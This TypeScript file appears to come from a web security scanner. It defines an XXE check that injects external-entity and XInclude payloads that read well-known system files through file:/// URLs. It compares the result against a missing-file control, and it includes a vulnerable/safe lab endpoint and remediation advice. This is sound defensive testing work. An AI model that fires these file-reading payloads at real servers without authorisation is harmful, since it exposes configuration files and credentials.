import type { InventoryItem } from '../../../crawl/inventory/inventory.ts';
import { typeOfBody } from '../../../crawl/requests/write-body.ts';
import { judgeComputed, shows } from '../../../oracle/computed.ts';
import { defineRequestCheck } from '../../define-active-check.ts';
import type { Nonce } from '../../experiment.ts';
import type { PointRequest } from '../../insertion-point.ts';
import { readElement } from '../../labs/xml.ts';
import { KNOWN_FILES, type System } from '../../shared/known-files.ts';
import { countLeaves, documentOf, mayTakeXml, requestWithXml, withLeaf } from '../../shared/xml-document.ts';

/** Index of the element to replace, the technique, and the system whose file is read. */
interface Variant {
  leaf: number;
  by: 'entity' | 'include';
  system: System;
}

const marksOf = ({ word }: Nonce) => [word.slice(0, 7), `e${word.slice(7)}`] as const;

function withEntities(item: InventoryItem, leaf: number, declared: string, used: string): PointRequest {
  return requestWithXml(item, `<!DOCTYPE r [${declared}]>${withLeaf(documentOf(item), leaf, used)}`);
}

function inner(item: InventoryItem, leaf: number, nonce: Nonce): PointRequest {
  const [first, second] = marksOf(nonce);
  return withEntities(item, leaf, `<!ENTITY a "${first}"><!ENTITY b "${second}">`, '&a;&b;');
}

function reading(item: InventoryItem, { leaf, by, system }: Variant, file: string): PointRequest {
  const address = `file:///${system === 'windows' ? 'c:/' : ''}${file}`;
  if (by === 'entity') return withEntities(item, leaf, `<!ENTITY a SYSTEM "${address}">`, '&a;');
  const include = `<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="${address}"/>`;
  return requestWithXml(item, withLeaf(documentOf(item), leaf, include));
}

const entity = (leaf: number): Variant[] => [
  { leaf, by: 'entity', system: 'unix' },
  { leaf, by: 'entity', system: 'windows' },
];
const INCLUDES: readonly Variant[] = [
  { leaf: 0, by: 'include', system: 'unix' },
  { leaf: 1, by: 'include', system: 'unix' },
];

export default defineRequestCheck({
  id: 'xxe',
  title: 'XML external entity injection (XXE): local files can be read',
  cwe: 611,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  cvss4: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
  impact: 'An attacker reads any file that the application can read, such as configuration with passwords.',
  why: 'The XML parser resolves external references of the document. An attacker reads local files and internal URLs of the server. An external entity returned a well-known system file in the response; a file that does not exist returned nothing.',
  fix: 'Disable DTDs, external entities and XInclude in the XML parser. Reject XML where the endpoint expects JSON.',
  references: [
    'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
    'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/07-Testing_for_XML_Injection',
    'https://cwe.mitre.org/data/definitions/611.html',
  ],
  risk: 'harmless',
  appliesTo: (item) => mayTakeXml(item) && countLeaves(documentOf(item)) > 0,
  variants: [...entity(0), ...INCLUDES],
  maxRequests: 24,
  async probe(item, nonce, { ask }) {
    const leaves = Array.from({ length: countLeaves(documentOf(item)) }, (_, leaf) => leaf);
    for (const leaf of leaves) {
      if (shows(await ask(inner(item, leaf, nonce)), marksOf(nonce).join(''))) return entity(leaf);
    }
    return /xml/i.test(typeOfBody(item)) ? INCLUDES.filter(({ leaf }) => leaf < leaves.length) : [];
  },
  proof: {
    plan(item, variant, nonce) {
      const { path } = KNOWN_FILES[variant.system];
      const entities = { label: 'internal entities', request: inner(item, variant.leaf, nonce) };
      const missing = reading(item, variant, path.replace(/[^/]*$/, nonce.word));
      return {
        base: { label: 'original document', request: requestWithXml(item, documentOf(item)), isControl: true },
        entities: variant.by === 'entity' ? entities : undefined,
        attack: {
          label: 'well-known file',
          request: reading(item, variant, path),
          shows: `it contains lines of the file ${variant.system === 'windows' ? 'c:' : ''}/${path}`,
        },
        control: { label: 'file that does not exist', request: missing, isControl: true },
      };
    },
    judge({ base, entities, attack, control }, { system }, nonce) {
      const file = [attack, KNOWN_FILES[system].shows] as const;
      const expanded = entities && ([entities, marksOf(nonce).join('')] as const);
      return judgeComputed(expanded ? [file, expanded] : [file], [base, control]);
    },
  },
  lab() {
    const answer = (xml: string, isFollowing: boolean) => {
      try {
        return { body: `Ordered:\n${readElement(xml, 'tea', isFollowing)}\nEcho: ${isFollowing ? '' : xml}` };
      } catch {
        return { status: 400, body: 'The document cannot be read' };
      }
    };
    return {
      item: {
        method: 'POST',
        url: '/orders',
        parameters: [],
        seenAs: null,
        contentType: 'text/plain',
        body: { type: 'text/xml', text: '<?xml version="1.0"?><order><id>7</id><tea>Sencha</tea></order>' },
      },
      vulnerable: ({ body }) => answer(body, true),
      safe: ({ body }) => answer(body, false),
    };
  },
});
